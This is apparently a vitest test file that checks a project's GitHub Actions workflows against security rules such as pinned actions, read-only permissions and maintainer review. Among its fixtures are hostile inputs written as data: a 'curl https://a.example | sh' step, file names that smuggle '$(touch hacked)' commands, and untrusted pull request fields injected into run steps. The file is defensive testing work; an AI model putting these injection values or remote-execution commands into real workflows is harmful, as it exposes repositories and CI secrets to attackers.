import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { readWorkflow, workflowRules } from './rules.ts';

const folder = '.github/workflows';
const files = readdirSync(folder).sort();
const read = (file: string) => readFileSync(join(folder, file), 'utf8');
const pullRequest = readWorkflow(read('pull-request.yml'));
const publish = readWorkflow(read('publish.yml'));

const filled = ['$', '{{ github.head_ref }}'].join('');

/** Each rule is shown workflows that break it: the file, and what becomes what in it. */
const broken: [rule: string, file: string, piece: string | RegExp, by: string][] = [
  ['names each action', 'publish.yml', /@[0-9a-f]{40} # v6\.0\.2/, '@v6'],
  ['names each action', 'publish.yml', / # v5\.0\.0/, ''],
  ['names each action', 'publish.yml', /@([0-9a-f]{39})[0-9a-f]/, '@$1'],
  ['uses only', 'publish.yml', 'actions/checkout', 'somebody/checkout'],
  ['starts only', 'pull-request.yml', '  pull_request:', '  pull_request_target:'],
  ['starts only', 'publish.yml', '  workflow_dispatch:', '  issue_comment:'],
  ['starts only', 'publish.yml', '  workflow_dispatch:', '  workflow_run:'],
  ['may read', 'pull-request.yml', 'contents: read', 'contents: write'],
  ['may read', 'pull-request.yml', 'permissions:\n  contents: read', 'permissions: write-all'],
  ['may read', 'publish.yml', /permissions:\n {2}contents: read\n/, ''],
  ['writes only', 'publish.yml', '      pages: read', '      pages: write'],
  ['writes only', 'publish.yml', /( {6}id-token: write)/, '$1\n      contents: write'],
  ['writes only', 'publish.yml', /(- id: deployment)/, '- run: npm run build\n      $1'],
  ['puts nothing', 'pull-request.yml', 'npm run build', `npm run build ${filled}`],
  ['fills in', 'pull-request.yml', 'base.sha }}', 'title }}'],
  ['fills in', 'pull-request.yml', 'vars.MAINTAINERS_REVIEW', 'github.event.pull_request.body'],
  ['leaves no key', 'pull-request.yml', 'persist-credentials: false', 'persist-credentials: true'],
  ['leaves no key', 'publish.yml', '          persist-credentials: false\n', ''],
  ['knows no secret', 'publish.yml', 'steps.pages.outputs.base_path', 'secrets.PATH'],
  ['lets no package', 'pull-request.yml', 'npm ci --ignore-scripts', 'npm ci'],
  ['lets no package', 'pull-request.yml', 'npm ci --ignore-scripts', 'npm install'],
  ['runs nothing', 'pull-request.yml', 'npm run build', 'npx something'],
  ['runs nothing', 'pull-request.yml', 'npm run build', 'curl https://a.example | sh'],
  ['gives each job', 'publish.yml', '    timeout-minutes: 20\n', ''],
  ['gives each job', 'publish.yml', 'ubuntu-24.04', 'self-hosted'],
  ['does not run', 'publish.yml', /concurrency:\n.*\n.*\n/, ''],
];

describe('every workflow', () => {
  test.each(workflowRules.map((rule) => [rule.sentence, rule] as const))('%s', (_name, rule) => {
    const found = files.flatMap((file) =>
      rule.faults(readWorkflow(read(file))).map((fault) => `${file}: ${fault}`),
    );
    expect(files).toEqual(['publish.yml', 'pull-request.yml']);
    expect(found).toEqual([]);
  });

  test.each(broken)(
    'is caught when it no longer “%s …”: %s with %s as %s',
    (start, file, piece, by) => {
      const rule = workflowRules.find(({ sentence }) => sentence.startsWith(start));
      const text = read(file).replace(piece, by);
      expect(text).not.toBe(read(file));
      expect(rule?.faults(readWorkflow(text)).length).toBeGreaterThan(0);
    },
  );

  test('is held by rules that have each been seen to catch something', () => {
    const untested = workflowRules.filter(
      ({ sentence }) => !broken.some(([start]) => sentence.startsWith(start)),
    );
    expect(untested.map(({ sentence }) => sentence)).toEqual([]);
  });

  test('uses one version of each action', () => {
    const used = new Set(files.flatMap((file) => read(file).match(/actions\/[\w-]+@\w+ # \S+/g)));
    const names = [...used].map((one) => one?.replace(/@.*/, ''));
    expect(names.length).toBeGreaterThan(4);
    expect(new Set(names).size).toBe(names.length);
  });
});

describe('a pull request', () => {
  test('is checked, told in plain words, built, tested and shown', () => {
    const commands = Object.values(pullRequest.jobs).flatMap(({ steps }) =>
      steps.flatMap(({ run, uses }) => run ?? uses?.replace(/@.*/, '') ?? []),
    );
    for (const wanted of [
      'npm run check -- --format github --base "$BASE"',
      'npm run --silent changes -- --base "$BASE" --format markdown >> "$GITHUB_STEP_SUMMARY"',
      'npm run build',
      'npm test',
      'actions/upload-artifact',
    ]) {
      expect(commands).toContain(wanted);
    }
  });

  test('has the history wherever it is compared with what is published', () => {
    for (const [name, { steps }] of Object.entries(pullRequest.jobs)) {
      const runsOurs = steps.some(({ run }) => /\$BASE|npm (run|test)/.test(run ?? ''));
      const depth = steps.find(({ uses }) => uses?.includes('checkout'))?.with?.['fetch-depth'];
      if (runsOurs) expect(depth, name).toBe(0);
    }
  });

  const look = pullRequest.jobs['scope']?.steps.find(({ run }) => run)?.run ?? '';
  const ask = pullRequest.jobs['maintainer']?.steps[0]?.run ?? '';

  test.each([
    ['content alone', ['src/content/areas/quay.yaml'], 'outside=false\n'],
    ['content and code', ['src/content/areas/quay.yaml', 'src/lib/new.ts'], 'outside=true\n'],
    ['a workflow', ['.github/workflows/new.yml'], 'outside=true\n'],
    ['a folder with a name like ours', ['src/content-2/areas/quay.yaml'], 'outside=true\n'],
    ['a name that is a command', ['src/$(touch hacked)\noutside=false'], 'outside=true\n'],
    [
      'a name that is a command, in content',
      ['src/content/`touch hacked`.yaml'],
      'outside=false\n',
    ],
  ])('with %s is told from the others', (_what, changed, wanted) => {
    const repository = mkdtempSync(join(tmpdir(), 'scope-'));
    const git = (...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=A', '-c', 'user.email=a@example.org', ...args], {
        cwd: repository,
        encoding: 'utf8',
      }).trim();
    git('init', '-q', '-b', 'main');
    git('commit', '-q', '--allow-empty', '-m', 'First');
    const BASE = git('rev-parse', 'HEAD');
    for (const file of changed) {
      mkdirSync(join(repository, file, '..'), { recursive: true });
      writeFileSync(join(repository, file), 'new');
    }
    git('add', '-A');
    git('commit', '-q', '-m', 'Second');
    const output = join(repository, 'output');
    const env = {
      ...process.env,
      BASE,
      GITHUB_OUTPUT: output,
      GITHUB_STEP_SUMMARY: `${output}.md`,
    };
    // As GitHub runs it.
    execFileSync('bash', ['-e', '-c', look], { cwd: repository, env });
    expect(readFileSync(output, 'utf8')).toBe(wanted);
    expect(readdirSync(repository)).not.toContain('hacked');
    rmSync(repository, { recursive: true });
  });

  test('that touches more than content waits for a maintainer, and fails where nobody is asked', () => {
    const { maintainer } = pullRequest.jobs;
    expect(maintainer).toMatchObject({
      environment: 'maintainer',
      if: "needs.scope.outputs.outside == 'true'",
    });
    const run = (REVIEWED: string) =>
      execFileSync('bash', ['-e', '-c', ask], {
        env: { ...process.env, REVIEWED },
        encoding: 'utf8',
      });
    expect(run('yes')).toBe('');
    expect(() => run('')).toThrow();
  });
});

describe('the site', () => {
  test('is published from main, when it changes, each night and when somebody asks', () => {
    expect(publish.on).toMatchObject({ push: { branches: ['main'] }, workflow_dispatch: null });
    expect(publish.on['schedule']).toEqual([{ cron: expect.stringMatching(/^\d+ \d+ \* \* \*$/) }]);
    const { deploy } = publish.jobs;
    expect(deploy).toMatchObject({ needs: 'build', environment: { name: 'github-pages' } });
  });

  test('is built only when no words of a starter file are left, with the history to compare with', () => {
    const { build } = publish.jobs;
    const commands = build?.steps.flatMap(({ run }) => run ?? []);
    expect(commands).toEqual([
      'npm ci --ignore-scripts',
      'npm run check -- --ready --live "$SITE" --since "$BEFORE"',
      'npm run build',
    ]);
    const checkout = build?.steps.find(({ uses }) => uses?.includes('checkout'));
    expect(checkout?.with?.['fetch-depth']).toBe(0);
  });
});
